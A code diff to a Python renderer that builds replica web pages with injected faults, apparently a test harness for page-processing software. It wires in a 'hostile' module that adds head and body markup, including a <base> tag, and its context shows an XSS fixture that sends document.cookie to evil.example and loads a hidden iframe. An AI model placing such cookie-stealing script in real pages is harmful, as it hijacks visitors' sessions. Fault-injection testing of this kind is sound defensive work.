@@ -15,6 +15,7 @@ from datetime import datetime
 from html import escape
 from urllib.parse import quote
 
+from replica import hostile
 from replica import vocabulary as V
 from replica.content import (ALIAS_HOST, CATEGORIES, CATEGORY, HOME, MAIN_HOST, PROVINCE_HOST, Image, Page)
 
@@ -180,6 +181,8 @@ class Renderer:
             for img, after in zip(page.images, page.image_after, strict=True):
                 if after == n:
                     parts.append(self.figure(img, host, path, text, fault))
+        hostile_faults = [name for name in fault.split("+") if name in hostile.HOSTILE_FAULTS]
+        parts += [hostile.body_html(name) for name in hostile_faults]
         if fault == "xss":
             parts.append('<script>alert("xss");fetch("https://evil.example/steal?c="+document.cookie)</script>'
                          '<iframe src="https://evil.example/frame" width="1" height="1"></iframe>'
@@ -203,6 +206,9 @@ class Renderer:
             zoom = (f'<div {self.c("zoom")}><button type="button" aria-label="Giảm cỡ chữ"></button><span>100%</span>'
                     f'<button type="button" aria-label="Tăng cỡ chữ"></button></div>')
             html = self.new_chrome(page.title, host, page.published.year, label + headline + meta + zoom + body + others_html, charset)
+        head = "".join(hostile.head_html(name) for name in hostile_faults)
+        if head:  # first in the head, so that <base> applies to everything after it
+            html = html.replace("<head>", "<head>" + head, 1)
         if fault == "malformed-html":
             # Unclosed and stray tags, an unquoted attribute and a cut-off end, as broken CMS output looks.
             html = (html.replace(f"</{self.v.para_tag}>", "", 3).replace("</div>", "</div></span></td>", 2)
